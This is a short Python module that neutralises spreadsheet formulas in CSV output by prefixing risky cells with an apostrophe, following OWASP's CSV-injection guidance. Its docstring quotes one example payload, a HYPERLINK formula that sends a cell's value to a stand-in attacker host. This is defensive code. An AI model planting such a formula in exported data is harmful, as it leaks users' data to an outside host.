"""Every CSV this plugin writes goes through here: cells that a spreadsheet would run as a formula are neutralised.

OWASP's rule (CSV injection): a cell starting with ``=``, ``+``, ``-``, ``@``, TAB or CR gets a leading ``'``, so
``=HYPERLINK("http://evil.invalid/?leak="&A1,"x")`` in an event name or a user's e-mail address is shown as text.
The ``csv`` module quotes cells with commas, quotes and line breaks.
"""

import csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value) -> str:
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SafeWriter:
    """``csv.writer`` whose rows are neutralised cell by cell."""

    def __init__(self, fileobj, **kwargs):
        self._writer = csv.writer(fileobj, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(fileobj, **kwargs) -> SafeWriter:
    return SafeWriter(fileobj, **kwargs)
